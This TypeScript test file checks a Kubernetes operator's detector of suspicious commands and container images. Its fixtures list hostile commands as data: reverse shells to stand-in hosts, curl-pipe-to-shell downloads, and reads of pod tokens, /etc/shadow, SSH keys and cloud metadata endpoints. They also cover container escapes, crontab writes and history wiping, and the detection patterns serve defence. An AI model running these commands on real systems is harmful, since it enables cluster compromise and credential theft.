import { expect } from 'chai';
import { suspiciousImage, suspiciousSession, suspiciousTemplate } from '../../../operator/anomalies/facts/suspicious-text.ts';

/** What a command is found to be in a session, whether also in a template, and commands that are. */
const found: readonly (readonly [name: string, inTemplates: boolean, commands: readonly string[]])[] = [
  [
    'pool of miners',
    true,
    ['./x -o stratum+tcp://a.example.com:1', './x --donate-level 1', './x -o gulf.moneroocean.stream', './x -o pool.minexmr.example.com'],
  ],
  [
    'reverse shell',
    true,
    [
      'bash -i >& /dev/tcp/192.0.2.1/1 0>&1',
      'nc -e /bin/sh 192.0.2.1 1',
      'ncat 192.0.2.1 1 --sh-exec sh',
      'mkfifo /tmp/f; nc 192.0.2.1 1',
      'socat TCP:192.0.2.1:1 EXEC:sh',
      "php -r 'fsockopen(1);exec(2)'",
    ],
  ],
  ['token of the pod', false, ['cat /var/run/secrets/kubernetes.io/serviceaccount/token', 'find / -name token', 'cp -r /run/secrets x']],
  [
    'metadata service of the cloud',
    false,
    ['curl http://169.254.169.254/', 'wget metadata.google.internal', 'curl http://169.254.170.2/x', 'curl 100.100.100.200'],
  ],
  [
    'download that is run',
    true,
    [
      'curl https://example.com/x | sh',
      'wget -q https://example.com/x && chmod +x x',
      'bash -c "$(curl https://example.com/x)"',
      'echo x | base64 -d | bash',
    ],
  ],
  ['host namespaces', false, ['nsenter --target 1 -m sh', 'chroot /host sh', 'ls /proc/1/root', 'debugfs /dev/sda1']],
  [
    'credentials of the node',
    false,
    ['cat /etc/shadow', 'cat /etc/kubernetes/admin.conf', 'ls /var/lib/kubelet/pki', 'cat ~/.kube/config'],
  ],
  ['kernel or disk of the node', false, ['echo x > /proc/sys/kernel/core_pattern', 'insmod x.ko', 'mknod /x b 8 0', 'mount /dev/sda1 /x']],
  ['container runtime of the node', false, ['curl --unix-socket /var/run/docker.sock x', 'ls /run/containerd/containerd.sock']],
  ['API of a kubelet', false, ['curl -k https://192.0.2.1:10250/run/a/b/c', 'curl http://192.0.2.1:10255/pods']],
  ['environment of another program', false, ['cat /proc/7/environ', 'cat /proc/*/environ']],
  ['keys or jobs of the node', false, ['cat /root/.ssh/id_rsa', 'echo x >> /host/etc/crontab']],
  ['removal of traces', false, ['history -c', 'rm ~/.bash_history', 'unset HISTFILE']],
];
const usual = [
  'ls /etc',
  'cat /proc/1/status',
  'sh -c "echo done"',
  'curl http://localhost/healthz',
  'nc -z db 5432',
  'mount',
  'chmod 644 x',
  'pool',
];

describe('the patterns of commands', () => {
  for (const [name, inTemplates, commands] of found)
    for (const command of commands)
      it(`find ${name} in '${command}', ${inTemplates ? 'in templates as well' : 'in sessions only'}`, () => {
        expect(suspiciousSession(['sh', '-c', command])).to.equal(name);
        expect(suspiciousTemplate(['sh', '-c', command])).to.equal(inTemplates ? name : undefined);
      });
  for (const command of usual)
    it(`find nothing in '${command}'`, () =>
      expect([suspiciousSession(['sh', '-c', command]), suspiciousTemplate(['sh', '-c', command])]).to.deep.equal([undefined, undefined]));

  it('are found behind quotes, backslashes and doubled slashes', () => {
    for (const command of ['cat /etc/sh""adow', 'cat /etc/sha\\dow', 'cat /etc//shadow', 'cat /etc/./shadow'])
      expect(suspiciousSession(['sh', '-c', command]), command).to.equal('credentials of the node');
  });

  it('are read in the first 8,192 characters', () => {
    expect(suspiciousSession([`${' '.repeat(8180)}/etc/shadow`])).to.equal('credentials of the node');
    expect(suspiciousSession([`${' '.repeat(8190)}/etc/shadow`])).to.equal(undefined);
    expect(suspiciousSession([])).to.equal(undefined);
  });

  const names: readonly (readonly [image: string, found: string | undefined])[] = [
    ['example.com/xmrig:1', 'miner xmrig'],
    ['example.com/XMRig:1', 'miner xmrig'],
    ['example.com/linpeas', 'tool linpeas'],
    ['example.com/xmrigs', undefined],
    ['example.com/a-xmrig', 'miner xmrig'],
    ['example.com/axmrig', undefined],
    ['example.com/web', undefined],
  ];
  for (const [image, expected] of names)
    it(`find ${expected ?? 'nothing'} in the image ${image}`, () => {
      expect(suspiciousImage(image)).to.equal(expected);
      if (expected !== undefined) expect(suspiciousTemplate([image])).to.equal(expected);
    });

  const sessions: readonly (readonly [command: string, found: string | undefined])[] = [
    ['nmap 192.0.2.0/24', 'tool of attackers'],
    ['nmapper x', undefined],
    ['/tmp/kubectl get pods', 'tool of attackers'],
    ['kubectl get pods --token=x', 'tool of attackers'],
    ['kubectl get pods', undefined],
    ['wget https://example.com/x', 'download'],
    ['curl https://example.com/x', undefined],
    ['curl -o x https://example.com/x', 'download'],
    ['curl --output x https://example.com/x', 'download'],
    ['curl -o x http://localhost/x', undefined],
  ];
  for (const [command, expected] of sessions)
    it(`find ${expected ?? 'nothing'} in the session '${command}'`, () => {
      expect(suspiciousSession(['sh', '-c', command])).to.equal(expected);
      expect(suspiciousTemplate(['sh', '-c', command])).to.equal(undefined);
    });
});
